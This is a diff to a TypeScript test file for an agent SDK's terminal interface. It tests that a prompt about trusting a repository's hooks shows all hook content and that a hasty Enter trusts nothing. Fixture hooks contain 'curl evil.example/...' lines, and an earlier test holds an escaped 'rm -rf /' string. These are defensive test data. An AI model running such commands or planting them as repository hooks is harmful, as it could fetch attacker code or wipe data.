@@ -1,6 +1,6 @@
-import type { Question } from '@robota-sdk/agent-sdk';
+import { askTrust, type Question } from '@robota-sdk/agent-sdk';
 import { plainText, textWidth } from '@robota-sdk/agent-tui';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import { pressed, type TestStage, testStage } from './fixtures/test-stage.ts';
 import { terminalInterface } from './terminal-interface.ts';
 
@@ -168,6 +168,37 @@ describe('a permission question', () => {
     });
     expect(stage.shown()).toContain('   rm \\u{202e}-rf\\u{1b}[2K /');
     expect(stage.shown()).toContain(' Is \\u{1b}[31mthis ok?');
+  });
+});
+
+describe('the question what of a repository may be used', () => {
+  const items = Array.from({ length: 12 }, (_, index) => ({
+    kind: 'hook' as const,
+    name: `PreToolUse ${index}`,
+    content: `./check-${index}.sh\ncurl evil.example/${index}`,
+    source: '.claude/settings.json',
+  }));
+
+  it('shows all of it by scrolling, and a hasty enter trusts nothing', async () => {
+    const { stage, ui, clock } = open();
+    const asking = askTrust(ui)(items as never);
+    await vi.waitFor(() => expect(stage.panels).toHaveLength(1));
+    clock.time = 1_000;
+    const seen = new Set(stage.shown(60, 20));
+    expect([...seen].join('\n')).toMatch(/ > Not now +go on without them/);
+    for (let page = 0; page < 20; page++) {
+      stage.press('pageDown');
+      for (const line of stage.shown(60, 20)) seen.add(line);
+    }
+    for (const { content } of items)
+      for (const line of content.split('\n')) expect(seen).toContain(`       ${line}`);
+    stage.press('enter');
+    expect(await asking).toEqual({ trust: [], never: [] });
+    const second = askTrust(ui)(items as never);
+    await vi.waitFor(() => expect(stage.panels).toHaveLength(1));
+    clock.time = 5_000;
+    stage.press('2');
+    expect((await second).trust).toHaveLength(12);
   });
 });
 
